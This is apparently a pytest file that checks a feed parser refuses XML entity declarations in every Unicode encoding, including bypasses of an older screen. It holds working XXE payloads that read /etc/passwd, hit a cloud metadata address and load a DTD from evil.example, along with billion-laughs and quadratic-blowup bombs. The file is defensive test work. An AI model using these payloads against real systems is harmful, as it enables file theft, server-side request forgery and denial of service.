"""XML entity declarations are refused, however the document hides them.

The old screen grepped the first 8 KiB of raw bytes: UTF-16, a DOCTYPE
after 8 KiB, and "]>" inside a comment of the internal subset all walked
past it, and expat expanded the entities.  Each bypass is here, with the
classic attacks, in every Unicode encoding, and every case must end as an
``xml_entities_forbidden`` feed dead letter, quickly.
"""
from __future__ import annotations

import time

import pytest

from tests.conftest import FETCHED_AT
from tests.test_feeds_props import EXPANSION_FACTOR, EXPANSION_SLACK, kept_size
from transforms.feed.screen import feedparser_input, screen_xml
from transforms.feed.xml_feed import feedparser_headers
from transforms.feeds import FeedProblem, parse_feed

ITEM = ('<rss version="2.0"><channel><title>t</title><item><title>{ref}</title>'
        '<link>https://x.example/1</link><description>{refs}</description></item>'
        '</channel></rss>')


def feed(subset: str, ref: str = "&a;", declaration: str = '<?xml version="1.0"?>') -> str:
    return (f"{declaration}<!DOCTYPE rss [{subset}]>"
            + ITEM.format(ref=ref, refs=ref * 50))


BILLION_LAUGHS = feed('<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)), "&a9;")
QUADRATIC = feed(f'<!ENTITY a "{"x" * 30_000}">', "&a;" * 1000)
ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "quadratic blowup": QUADRATIC,
    "xxe system": feed('<!ENTITY a SYSTEM "file:///etc/passwd">'),
    "xxe public": feed('<!ENTITY a PUBLIC "-//x//EN" "http://169.254.169.254/latest/">'),
    "parameter entity": feed('<!ENTITY % p "<!ENTITY a \'x\'>"> %p;'),
    "external parameter entity": feed('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;'),
    "unparsed entity": feed('<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "x" NDATA n>', "t"),
    "]> in a comment": feed(f'<!-- ]> --><!ENTITY a "{"y" * 30_000}">'),
    "]> in an entity value": feed(f'<!ENTITY b "]>"><!ENTITY a "{"y" * 30_000}">'),
    "doctype after 8 KiB of comments": feed(f'<!ENTITY a "{"z" * 30_000}">', declaration=(
        '<?xml version="1.0"?>' + "<!-- padding -->\n" * 600)),
    "doctype after 8 KiB of whitespace": feed(f'<!ENTITY a "{"z" * 30_000}">', declaration=(
        '<?xml version="1.0"?>' + " \n" * 5000)),
    "entities on their own lines": feed(f'\n<!ENTITY a "{"w" * 30_000}">\n'),
    "internal subset with an external DTD": (
        '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "rss.dtd" [<!ENTITY a "x">]>'
        + ITEM.format(ref="&a;", refs="&a;")),
    "prolog broken before the doctype": (
        '<?xml version="1.0"?>\n<!-- a -- b -->\n<!DOCTYPE rss [\n<!ENTITY a "'
        + "v" * 30_000 + '">\n]>\n' + ITEM.format(ref="&a;", refs="&a;" * 1000)),
}
ENCODINGS = ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]


def refused(body: bytes, location: str = "https://x.example/feed") -> bool:
    started = time.monotonic()
    try:
        parsed = parse_feed(body, location, FETCHED_AT)
    except FeedProblem as exc:
        assert time.monotonic() - started < 2.0
        assert exc.error_type == "xml_entities_forbidden", str(exc)
        return True
    assert kept_size(parsed) <= EXPANSION_FACTOR * len(body) + EXPANSION_SLACK
    return False


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attacks_are_refused(name):
    assert refused(ATTACKS[name].encode())
    assert refused(ATTACKS[name].encode(), "/srv/feeds/attack.xml")


@pytest.mark.parametrize("codec", ENCODINGS)
@pytest.mark.parametrize("declared", [False, True])
@pytest.mark.parametrize("bom", [False, True])
def test_attacks_are_refused_in_every_unicode_encoding(codec, declared, bom):
    name = codec if codec.count("-") < 2 else codec.rsplit("-", 1)[0]
    declaration = f'<?xml version="1.0" encoding="{name}"?>' if declared else ""
    text = ("\ufeff" if bom and codec[-2:] in ("le", "be") else "") + feed(
        f'<!ENTITY a "{"u" * 10_000}">', declaration=declaration)
    body = text.encode(codec)
    if not bom and codec in ("utf-16", "utf-32"):
        body = body[2 if codec == "utf-16" else 4:]  # the codec wrote a BOM; drop it
    assert refused(body)


def test_the_old_three_are_refused():
    from devsite.hostile_site import BILLION_LAUGHS as OLD_LAUGHS
    from devsite.hostile_site import QUADRATIC as OLD_QUADRATIC
    from devsite.hostile_site import XXE as OLD_XXE
    for body in (OLD_LAUGHS, OLD_XXE, OLD_QUADRATIC):
        assert refused(body.encode())


@pytest.mark.parametrize("body", [
    # RSS 0.91 names its DTD: feedparser never loads it, the feed is fine.
    b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
    b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel>'
    b"<title>t</title><item><title>i</title><link>https://x.example/1</link></item></channel></rss>",
    b'<?xml version="1.0"?>\n<!-- c --><!DOCTYPE rss SYSTEM "rss.dtd">\n<rss version="2.0">'
    b"<channel><item><title>i</title><link>https://x.example/1</link></item></channel></rss>",
    # Not well-formed, and no entity declared: the loose parser reads it.
    b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>&nbsp;&copy; &undefined;'
    b"</title><link>https://x.example/1</link></item></channel></rss>",
])
def test_feeds_without_entity_declarations_pass(body):
    parsed = parse_feed(body, "https://x.example/feed", FETCHED_AT)
    assert [e.url for e in parsed.entries] == ["https://x.example/1"]


def test_the_screen_judges_what_feedparser_parses():
    """With the prolog broken before the DOCTYPE, expat stops before any
    declaration, in the document and in what feedparser's strict parser
    gets; but feedparser kept the declaration for its loose parser, which
    would expand it.  That alone refuses the feed."""
    body = ATTACKS["prolog broken before the doctype"].encode()
    headers = feedparser_headers("https://x.example/feed")
    _strict_input, entities = feedparser_input(body, headers)
    assert list(entities) == ["a"]
    with pytest.raises(FeedProblem, match=r"declares XML entities \(a\)$"):
        screen_xml(body, headers)
    screen_xml(b'<?xml version="1.0"?>\n<rss version="2.0"/>', headers)  # passes
